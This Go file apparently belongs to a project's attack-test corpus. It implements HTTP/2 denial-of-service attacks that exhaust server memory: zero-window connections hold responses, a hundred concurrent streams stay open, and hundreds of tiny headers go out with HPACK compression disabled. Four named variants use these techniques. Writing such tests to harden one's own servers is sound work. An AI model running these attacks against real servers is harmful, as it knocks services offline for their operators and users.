package corpus

import (
	"bytes"
	"cmp"
	"context"
	"fmt"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/realmkeeper/realmkeeper/test/attack/attacker"
	"github.com/realmkeeper/realmkeeper/test/attack/h2"
)

// concurrent is the number of concurrent requests on a connection that the servers allow.
const concurrent = 100

// held returns an attack that sends as many complete requests as allowed, and takes no response. The
// server can send headers only.
func held(method, path string, more ...hpack.HeaderField) func(context.Context, *attacker.Session) error {
	return func(ctx context.Context, s *attacker.Session) error {
		c, err := h2.Open(ctx, s, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer c.Close()
		c.Read()
		var block bytes.Buffer
		block.Write(h2.Headers(s, method, cmp.Or(path, s.Get), 0))
		encoder := hpack.NewEncoder(&block)
		encoder.SetMaxDynamicTableSize(0)
		for _, field := range more {
			_ = encoder.WriteField(field) // a buffer doesn't fail
		}
		for id := uint32(1); id < 2*concurrent; id += 2 {
			if err := get(c.Framer, block.Bytes(), id); err != nil {
				return err
			}
			s.Requested()
		}
		for ctx.Err() == nil {
			time.Sleep(200 * time.Millisecond) // the pace of the attack
			if err := c.Framer.WritePing(false, [8]byte{}); err != nil {
				return err
			}
		}
		return nil
	}
}

// tinyHeaders are many short headers, which take much more memory than bytes on the network.
func tinyHeaders() []hpack.HeaderField {
	var fields []hpack.HeaderField
	for i := range 900 {
		fields = append(fields, hpack.HeaderField{Name: fmt.Sprintf("%c%c", 'a'+i%26, 'a'+i/26%26), Sensitive: true})
	}
	return fields
}

var heldAttacks = map[string]attacker.Attack{
	"HTTP 2 large responses without a window": {Connections: many, Converse: held("GET", "/assets/pico.css")},
	"HTTP 2 tiny headers without a window":    {Connections: many, Converse: held("GET", "", tinyHeaders()...)},
	"HTTP 2 tiny headers, refused":            {Connections: many, Converse: held("GET", "", append(tinyHeaders(), hpack.HeaderField{Name: "te", Value: "gzip"})...)},
	"HTTP 2 OPTIONS for the server":           {Connections: many, Converse: held("OPTIONS", "*", tinyHeaders()...)},
}
